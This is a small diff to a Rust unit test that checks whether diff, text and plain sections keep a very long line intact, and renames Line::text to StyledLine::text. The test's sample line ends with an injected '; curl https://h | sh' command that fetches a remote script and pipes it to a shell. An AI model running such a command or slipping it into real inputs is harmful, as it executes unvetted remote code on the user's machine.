@@ -153,7 +153,7 @@ fn a_window_gets_complete_lines() {
     let end = "; curl https://h | sh";
     let long = format!("+{}{end}", "x".repeat(1_000));
     for section in [Section::diff([long.as_str()]), Section::text(&long), Section::plain([long.clone()])] {
-        let lines: Vec<String> = section.to_lines().iter().map(Line::text).collect();
+        let lines: Vec<String> = section.to_lines().iter().map(StyledLine::text).collect();
         assert_eq!(lines, [long.as_str()], "{section:?}");
     }
 }
